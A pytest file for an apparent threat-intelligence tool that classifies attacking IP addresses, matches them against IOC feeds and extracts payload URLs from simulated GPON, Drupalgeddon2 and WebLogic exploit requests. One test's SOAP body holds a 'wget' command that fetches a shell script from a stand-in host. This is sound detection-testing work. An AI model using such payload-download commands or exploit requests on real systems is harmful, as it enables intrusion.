"""Who attacks: source classification, IOC list matches and shareable indicators, through the
real stages (http-jsonl ingest -> built-in rules -> intel add -> enrich)."""

from __future__ import annotations

import json
import random

import pytest
from click.testing import CliRunner

from threatscope import ingest
from threatscope.cli import main
from threatscope.detect import run_detect
from threatscope.enrich import run_enrich
from threatscope.enrich.classify import thresholds
from threatscope.errors import UserError
from threatscope.simulate import attacks
from threatscope.workspace import Workspace

SCANNER = "45.83.64.1"  # sends a research scanner's user agent
MASS = "1.1.1.10"  # GPON at three organisations
SPRAY = [f"2.2.2.{i}" for i in range(1, 12)]  # GPON, one organisation each: a botnet's members
TARGETED = "3.3.3.3"  # Drupal at one organisation, nobody else does that
BENIGN = "4.4.4.4"  # browses, never detected
V6 = "2a03:2880:f10c:83:face:b00c:0:25de"


def _req(ip: str, org: str, day: int, builder, ua: str = "Mozilla/5.0") -> str:
    r = builder(random.Random(day * 97 + len(ip)), f"www.{org}.example")
    return json.dumps({"ts": f"2018-05-{day:02d}T10:00:00Z", "src_ip": ip, "method": r.method,
                       "uri": r.uri, "headers": {"User-Agent": ua, **r.headers},
                       "body": r.body, "status": 200, "org_id": org})


@pytest.fixture(scope="module")
def ws(tmp_path_factory):
    root = tmp_path_factory.mktemp("attackers")
    lines = [_req(SCANNER, "a", 2, attacks.gpon, ua="Mozilla/5.0 CensysInspect/1.1")]
    lines += [_req(MASS, org, 3, attacks.gpon) for org in ("a", "b", "c")]
    lines += [_req(ip, "abcd"[i % 4], 4 + i, attacks.gpon) for i, ip in enumerate(SPRAY)]
    lines += [_req(TARGETED, "e", 20, attacks.drupalgeddon2),
              _req(TARGETED, "e", 21, attacks.drupalgeddon2)]
    lines += [_req(V6, "b", 22, attacks.gpon)]
    lines.append(json.dumps({"ts": "2018-05-02T09:00:00Z", "src_ip": BENIGN, "method": "GET",
                             "uri": "/index.html", "headers": {}, "status": 200, "org_id": "a"}))
    (root / "requests.jsonl").write_text("\n".join(lines) + "\n")
    (root / "feodo.csv").write_text(
        '# Feodo Tracker\n# "first_seen_utc","dst_ip","dst_port","c2_status","last_online","malware"\n'
        f'"2018-03-01 10:00:00","{TARGETED}","8080","offline","2018-05-30","Heodo"\n'
        '"2018-03-02 10:00:00","9.9.9.9","443","online","2018-06-01","QakBot"\n')
    (root / "list.txt").write_text(f"# ours\n2.2.2.0/30\n{V6}\nhxxp://203.0.113.77/gpon.sh\n"
                                   "this is not an indicator\n")
    w = Workspace.open(root / "ws", create=True)
    ingest.ingest_paths(w, [str(root / "requests.jsonl")])
    run_detect(w)
    summary = ingest.ingest_paths(w, [str(root / "feodo.csv"), str(root / "list.txt")],
                                  only=["ioc-feodo-csv", "ioc-list"], fallback="ioc-list")
    assert summary.files == 2 and summary.rows_quarantined == 1
    return w


@pytest.fixture(scope="module")
def sources(ws):
    run_enrich(ws)
    with ws.connect(read_only=True) as con:
        cur = con.execute("SELECT * FROM source")
        names = [d[0] for d in cur.description]
        return {r[0]: dict(zip(names, r, strict=True)) for r in cur.fetchall()}


def test_classification_from_breadth_and_user_agent(sources):
    assert sources[SCANNER]["classification"] == "research-scanner"
    assert sources[MASS]["classification"] == "mass-scanner"
    assert sources[MASS]["orgs_hit"] == 3 and sources[MASS]["sensors_hit"] == 3
    # one organisation each, but GPON came from 13 addresses at 4 organisations: sprayed
    assert {sources[ip]["classification"] for ip in SPRAY} == {"opportunistic"}
    assert sources[TARGETED]["classification"] == "targeted"
    assert sources[TARGETED]["detections"] == 2 and sources[TARGETED]["orgs_hit"] == 1
    assert sources[TARGETED]["campaigns"] == ["drupalgeddon2"]
    assert sources[TARGETED]["cves"] == ["CVE-2018-7600"]
    # an address that was never detected is described, not classified
    assert sources[BENIGN]["classification"] is None and sources[BENIGN]["detections"] == 0


def test_thresholds_come_from_the_workspace(ws, sources):
    t = thresholds({"enrich": {"classification": {"mass_orgs": 2}}})
    assert t["mass_orgs"] == 2 and t["campaign_sources"] == 10
    with pytest.raises(UserError, match="unknown setting"):
        thresholds({"enrich": {"classification": {"mass_org": 2}}})
    with pytest.raises(UserError, match="integer"):
        thresholds({"enrich": {"classification": {"mass_orgs": "2"}}})


def test_ioc_lists_match_addresses_exactly_and_by_cidr(sources):
    t = sources[TARGETED]
    assert t["ioc_matches"] == [f"feodotracker:{TARGETED}"]
    assert t["malware_families"] == ["emotet"]  # Heodo is Emotet
    assert sources["2.2.2.1"]["ioc_matches"] == ["list:2.2.2.0/30"]
    assert sources["2.2.2.3"]["ioc_matches"] == ["list:2.2.2.0/30"]
    assert sources["2.2.2.4"]["ioc_matches"] == []  # outside the /30
    assert sources[V6]["ioc_matches"] == [f"list:{V6}"]
    assert sources[MASS]["ioc_matches"] == [] and sources[MASS]["malware_families"] == []


def test_indicators_hold_attackers_and_payload_urls(ws, sources):
    with ws.connect(read_only=True) as con:
        cur = con.execute("SELECT * FROM indicator")
        names = [d[0] for d in cur.description]
        rows = {(r[1], r[2]): dict(zip(names, r, strict=True)) for r in cur.fetchall()}
    attackers = {v for v, role in rows if role == "attacker"}
    assert attackers == {SCANNER, MASS, TARGETED, V6, *SPRAY}
    assert run_enrich(ws).indicators == len(rows)  # the summary counts what the view holds
    t = rows[(TARGETED, "attacker")]
    assert t["indicator_type"] == "ipv4" and t["campaigns"] == ["drupalgeddon2"]
    assert t["ioc_feeds"] == ["feodotracker"] and t["malware_families"] == ["emotet"]
    assert t["sightings"] == 2 and t["classification"] == "targeted"
    assert rows[(V6, "attacker")]["indicator_type"] == "ipv6"
    payload = {v: r for (v, role), r in rows.items() if role == "payload"}
    # the download URLs in the GPON and Drupal bodies (url-encoded there), with the campaign
    assert payload and all(r["indicator_type"] == "url" for r in payload.values())
    assert all(v.startswith(("http://198.51.100.", "http://203.0.113.")) for v in payload)
    assert {c for r in payload.values() for c in r["campaigns"]} == {"gpon", "drupalgeddon2"}
    assert all(len(r["campaigns"]) == 1 and r["cves"] for r in payload.values())
    assert sum(r["sightings"] for r in payload.values()) >= len(payload)


def test_payload_urls_skip_xml_namespaces_and_match_lists(tmp_path):
    w = Workspace.open(tmp_path / "ws", create=True)
    soap = ('<soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/">'
            "<string>wget http://203.0.113.77/gpon.sh</string></soapenv:Envelope>")
    line = json.dumps({"ts": "2018-05-02T09:00:00Z", "src_ip": "5.5.5.5", "method": "POST",
                       "uri": "/wls-wsat/CoordinatorPortType", "headers": {},
                       "body": soap, "status": 500, "org_id": "a"})
    (tmp_path / "r.jsonl").write_text(line + "\n")
    (tmp_path / "l.txt").write_text("http://203.0.113.77/gpon.sh/\n")
    ingest.ingest_paths(w, [str(tmp_path / "r.jsonl")])
    run_detect(w)
    ingest.ingest_paths(w, [str(tmp_path / "l.txt")], only=["ioc-list"])
    run_enrich(w)
    with w.connect(read_only=True) as con:
        got = con.execute("SELECT value, ioc_feeds, campaigns FROM indicator "
                          "WHERE role = 'payload'").fetchall()
    assert got == [("http://203.0.113.77/gpon.sh", ["list"], ["weblogic-wls-wsat"])]


def test_cli_intel_and_export_sources(ws, sources, tmp_path):
    run = CliRunner().invoke
    r = run(main, ["intel", "lookup", "-w", str(ws.root), TARGETED, "::ffff:3.3.3.3", "1.2.3",
                   "--json"])
    assert r.exit_code == 0, r.output
    got = [json.loads(x) for x in r.output.splitlines()]
    assert got[0]["ip"] == got[1]["ip"] == TARGETED
    assert got[0]["source"]["classification"] == "targeted"
    assert [m["feed"] for m in got[0]["ioc_matches"]] == ["feodotracker"]
    assert got[2] == {"ip": "1.2.3", "valid": False}
    r = run(main, ["export", "sources", "-w", str(ws.root), "--format", "csv"])
    assert r.exit_code == 0, r.output
    lines = r.output.splitlines()
    assert lines[0].startswith("ip,country,as_org,as_kind,os,products,service_classes,"
                               "ioc_matches,malware_families,classification,orgs_hit,detections,"
                               "first_seen,last_seen")
    assert len(lines) == 1 + 4 + len(SPRAY)  # the attacking addresses only
    row = next(x for x in lines if x.startswith(TARGETED + ","))
    assert f"feodotracker:{TARGETED}" in row and ",emotet,targeted,1,2," in row
    for fmt in ("jsonl", "parquet", "csv"):
        out = tmp_path / f"s.{fmt}"
        r = run(main, ["export", "sources", "-w", str(ws.root), "--format", fmt, "-o", str(out)])
        assert r.exit_code == 0, r.output
        assert out.stat().st_size > 0
    r = run(main, ["intel", "add", "-w", str(ws.root), "ioc", "--format", "shodan", "x"])
    assert r.exit_code != 0 and "not a ioc format" in r.output


def test_a_sensor_is_its_log_without_date_or_rotation():
    import duckdb

    from threatscope.enrich.classify import SENSOR

    con = duckdb.connect()
    files = {"d/org01/web01-u_ex1801.log": "web01-u_ex.log",
             "d/org01/web01-u_ex180612.log": "web01-u_ex.log",
             "d/org01/web02-u_ex1801.log": "web02-u_ex.log",
             "d/org03/edge01-access.log-201801.gz": "edge01-access.log-.gz",
             "d/org04/waf01-2018-01.jsonl": "waf01-.jsonl",
             "x/access.log.2.gz": "access.log.gz", "x/access.log": "access.log"}
    for path, sensor in files.items():
        got, = con.execute(f"SELECT {SENSOR} FROM (SELECT 'o' AS org_id, ? AS source_file)",
                           [path]).fetchone()
        assert got.rsplit("/", 1)[1] == sensor, path


def test_breadth_counts_an_exploit_s_sources_once_per_address():
    import duckdb

    from threatscope.enrich.classify import DEFAULTS, breadth_sql

    con = duckdb.connect()
    # c1 from three addresses at three organisations; 6.6.6.2 twice (and once a rule)
    con.execute("""CREATE TABLE detection AS SELECT * FROM (VALUES
        ('o1', TIMESTAMP '2024-01-01', '6.6.6.1', 'f1', 'web01-u_ex2401.log', 1, 'r1',
         ['CVE-2', 'CVE-1'], ['T1'], 'c1', NULL),
        ('o2', TIMESTAMP '2024-01-02', '6.6.6.2', 'f2', 'web01-u_ex2401.log', 1, 'r1',
         NULL, NULL, 'c1', 'm1'),
        ('o2', TIMESTAMP '2024-01-03', '6.6.6.2', 'f2', 'web01-u_ex2402.log', 2, 'r1',
         NULL, NULL, 'c1', NULL),
        ('o2', TIMESTAMP '2024-01-04', '6.6.6.2', 'f2', 'web02-u_ex2402.log', 2, 'r9',
         ['CVE-3', 'CVE-1'], ['T2', 'T1'], NULL, NULL),
        ('o3', TIMESTAMP '2024-01-05', '6.6.6.3', 'f3', NULL, 1, 'r1', [], NULL, 'c1', NULL),
        (NULL, TIMESTAMP '2024-01-05', '', 'f3', NULL, 2, 'r1', [], NULL, 'c1', NULL))
        t(org_id, ts, src_ip, file_id, source_file, source_line, rule_id, cves,
          attack_techniques, campaign, malware_family)""")
    cols = ("ip, first_seen::DATE::VARCHAR, last_seen::DATE::VARCHAR, detections, orgs_hit, "
            "sensors_hit, exploits, campaigns, cves, malware_families, attack_techniques, "
            "widespread")
    rows = {r[0]: r[1:] for r in con.execute(
        f"SELECT {cols} FROM ({breadth_sql('detection', dict(DEFAULTS, campaign_sources=3))})"
    ).fetchall()}
    assert rows == {
        "6.6.6.1": ("2024-01-01", "2024-01-01", 1, 1, 1, 1, ["c1"], ["CVE-1", "CVE-2"], [],
                    ["T1"], True),
        "6.6.6.2": ("2024-01-02", "2024-01-04", 2, 1, 2, 2, ["c1"], ["CVE-1", "CVE-3"],
                    ["m1"], ["T1", "T2"], True),
        "6.6.6.3": ("2024-01-05", "2024-01-05", 1, 1, 0, 1, ["c1"], [], [], [], True)}
    # three sources, not four detections
    t = dict(DEFAULTS, campaign_sources=4)
    assert not any(w for w, in con.execute(
        f"SELECT widespread FROM ({breadth_sql('detection', t)})").fetchall())
